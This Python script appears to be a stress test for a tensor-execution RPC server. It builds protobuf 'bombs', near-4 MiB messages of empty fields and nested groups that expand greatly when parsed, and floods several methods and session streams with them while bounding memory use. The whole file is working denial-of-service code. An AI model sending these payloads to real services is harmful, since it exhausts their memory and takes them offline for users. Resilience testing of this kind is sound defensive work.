"""Headers of nearly 4 MiB that protobuf makes 60 times as large: empty tensors, empty attributes, empty strings and
numbers of a byte; several at a time, in every method that parses. In sessions also empty commands, empty entries that
no command names, and groups inside each other that nobody knows.
"""

import http2
import wire
from attack import Attack, Target, run

MOST = (4 << 20) - 200
BOMBS = [
    field * (MOST // len(field))
    for field in (
        wire.field(2, b""),  # inputs
        wire.field(3, b""),  # attributes
        wire.field(2, wire.field(10, b"")),  # inputs with views
        wire.field(2, wire.field(3, b"\1\1\1\1\1\1\1\1")),  # shapes
    )
]
SESSION_BOMBS = [
    wire.session_request([wire.command(wire.SET_TENSORS, wire.field(2, wire.field(2, b"")) * (MOST // 4), 1)]),
    wire.field(1, b"") * (MOST // 2),  # commands
    wire.session_request([wire.command(wire.FREE, wire.ids(1), 1)]) + wire.field(15, b"") * (MOST // 2),
    wire.session_request([wire.command(wire.FREE, wire.groups(MOST // 4), 1)]),
    wire.groups(MOST // 4),
]


def bombs(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in BOMBS:
            calls = [
                connection.start(method, wire.field(1, bomb))
                for method in (
                    "Execute",
                    "ExecuteBatch",
                    "GetWorkspaceSize",
                    "Execute",
                    "GetWorkspaceSize",
                    "ListOperators",
                )
            ]
            connection.poll_until(lambda: all(call.ended for call in calls), 5.0)
            for call in calls:
                connection.forget(call)


def in_sessions(target: Target) -> None:
    connection = target.connect(target.index)
    while True:
        for bomb in SESSION_BOMBS:
            call = connection.begin(http2.SESSION)
            connection.message(call, bomb)
            connection.await_end(call, 1.0)
            connection.forget(call)


if __name__ == "__main__":
    # Four threads parse at one time, 240 MiB each at worst.
    run(Attack([bombs, bombs, in_sessions], rss_mib=1200))
